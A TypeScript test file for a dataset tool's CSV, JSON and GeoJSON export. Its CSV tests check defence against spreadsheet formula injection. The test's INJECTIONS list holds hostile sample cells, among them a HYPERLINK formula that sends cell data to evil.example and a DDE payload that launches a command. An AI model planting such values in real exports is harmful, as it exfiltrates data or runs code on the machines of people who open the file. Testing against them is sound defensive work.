import { describe, expect, it } from 'vitest';
import { readCsv } from '../../../src/lib/io/csv';
import { CSV_COLUMNS, decodeList, encodeList, toCsv, toGeoJson, toJson } from '../../../src/lib/io/formats/export';
import { faultlineCsv } from '../../../src/lib/io/formats/faultline-csv';
import type { DatasetFile, EventRecord } from '../../../src/lib/model/types';

const INJECTIONS = [
  '=HYPERLINK("https://evil.example/?d="&A1,"x")',
  "+cmd|' /C calc'!A0",
  '@SUM(1+1)',
  '-2+3',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
];

function event(over: Partial<EventRecord> = {}): EventRecord {
  return {
    id: 'e1',
    title: 'Title',
    summary: 'Summary',
    date: '2020-10-10',
    category: 'strike',
    location: { name: 'Place', lat: 40.5, lon: -12.5, precision: 'city' },
    fatalities: { min: 3, max: 5, by: 'Officials' },
    sources: [{ publisher: 'P', title: 'T', url: 'https://example.org/a' }],
    ...over,
  };
}

function dataset(events: EventRecord[]): DatasetFile {
  return {
    format: 'faultline/1',
    title: 'D',
    description: '',
    license: '',
    updated: '',
    categories: [{ id: 'strike', label: 'Strike', color: '#d55e00' }],
    events,
  };
}

describe('CSV export against formula injection', () => {
  const events = INJECTIONS.map((text, i) => event({ id: `e${i}`, title: text, summary: text, actors: [text] }));
  const csv = toCsv(events, dataset(events).categories);
  const rows = readCsv(csv).records.map((r) => r.fields);
  const col = (name: (typeof CSV_COLUMNS)[number]): number => (CSV_COLUMNS as readonly string[]).indexOf(name);

  it.each(INJECTIONS.map((t, i) => [t, i] as const))('prefixes %j with a quote in every text cell', (text, i) => {
    const row = rows[i + 1]!;
    expect(row[col('title')]).toBe(`'${text}`);
    expect(row[col('summary')]).toBe(`'${text}`);
    // A list item with outer whitespace is written as a JSON array, which starts with '[' and is inert.
    expect(row[col('actors')]).toBe(text.trim() === text ? `'${text}` : JSON.stringify([text]));
    const numeric = new Set((['lat', 'lon', 'fatalities_min', 'fatalities_max'] as const).map(col));
    row.forEach((cell, c) => numeric.has(c) || expect(cell).not.toMatch(/^[=+\-@\t\r\n]/));
  });

  it('writes numeric columns we format ourselves as plain numbers', () => {
    const row = rows[1]!;
    expect(row[col('lon')]).toBe('-12.5');
    expect(row[col('lat')]).toBe('40.5');
    expect([row[col('fatalities_min')], row[col('fatalities_max')]]).toEqual(['3', '5']);
    expect(csv).toContain(',-12.5,');
  });

  it('reads its own cells back without the quote (the documented round-trip rule)', () => {
    const back = faultlineCsv.parse(csv, 'x.csv');
    expect(back.dataset!.events.map((e) => e.title)).toEqual(INJECTIONS);
    expect(back.dataset!.events.map((e) => e.actors)).toEqual(INJECTIONS.map((t) => [t]));
  });

  it('keeps them verbatim in JSON', () => {
    const json = toJson(dataset(events));
    for (const text of INJECTIONS) expect(json).toContain(`"title": ${JSON.stringify(text)}`);
    expect(json).not.toContain('"\'=');
  });

  it('has the agreed columns first', () => {
    expect(rows[0]!.slice(0, 18)).toEqual([
      'id',
      'title',
      'summary',
      'date',
      'end',
      'approximate',
      'category',
      'actors',
      'tags',
      'location_name',
      'lat',
      'lon',
      'location_precision',
      'status',
      'status_by',
      'fatalities_min',
      'fatalities_max',
      'sources',
    ]);
    expect(JSON.parse(rows[1]![col('sources')]!)).toEqual([
      { publisher: 'P', title: 'T', url: 'https://example.org/a' },
    ]);
  });
});

describe('toJson', () => {
  it('writes keys in the order of types.ts, whatever order they were built in, and omits empty meta', () => {
    const scrambled = {
      related: ['e2'],
      sources: [{ url: 'https://x.org', title: 'T', publisher: 'P' }],
      location: { precision: 'site', lon: 2, lat: 1, name: 'N' },
      category: 'strike',
      date: '2020',
      summary: 'S',
      title: 'T',
      id: 'e1',
    } as unknown as EventRecord;
    const json = toJson({
      events: [scrambled],
      categories: [{ color: '#000000', label: 'Strike', id: 'strike' }],
      title: 'D',
      updated: '',
      license: '',
      description: '',
      format: 'faultline/1',
    });
    expect(json).toBe(`{
  "format": "faultline/1",
  "title": "D",
  "categories": [
    {
      "id": "strike",
      "label": "Strike",
      "color": "#000000"
    }
  ],
  "events": [
    {
      "id": "e1",
      "title": "T",
      "summary": "S",
      "date": "2020",
      "category": "strike",
      "location": {
        "name": "N",
        "lat": 1,
        "lon": 2,
        "precision": "site"
      },
      "sources": [
        {
          "publisher": "P",
          "title": "T",
          "url": "https://x.org"
        }
      ],
      "related": [
        "e2"
      ]
    }
  ]
}
`);
  });

  it('keeps date strings and unknown fields verbatim rather than dropping them', () => {
    const json = toJson(
      dataset([event({ date: '0099-03-15', end: '2021-02-03T14:05+03:00', extra: 1 } as Partial<EventRecord>)]),
    );
    expect(json).toContain('"date": "0099-03-15"');
    expect(json).toContain('"end": "2021-02-03T14:05+03:00"');
    expect(json).toContain('"extra": 1');
  });
});

describe('toGeoJson', () => {
  it('writes [lon, lat] Points and geometry null for events without a place', () => {
    const out = JSON.parse(toGeoJson([event(), event({ id: 'e2', location: null })])) as {
      type: string;
      features: { id: string; geometry: unknown; properties: Record<string, unknown> }[];
    };
    expect(out.type).toBe('FeatureCollection');
    expect(out.features[0]!.geometry).toEqual({ type: 'Point', coordinates: [-12.5, 40.5] });
    expect(out.features[0]!.properties.location).toEqual({ name: 'Place', precision: 'city' });
    expect(out.features[1]).toMatchObject({ id: 'e2', geometry: null, properties: { location: null } });
  });
});

describe('list cells', () => {
  it.each([[['a', 'b']], [['a;b', 'c']], [[' padded']], [['[x]']], [['plain']]])(
    '%j survives encode and decode',
    (items) => {
      expect(decodeList(encodeList(items))).toEqual(items);
    },
  );

  it('reads hand-typed lists leniently', () => {
    expect(decodeList('a;b ;  c')).toEqual(['a', 'b', 'c']);
    expect(decodeList('[draft] name')).toEqual(['[draft] name']);
  });
});
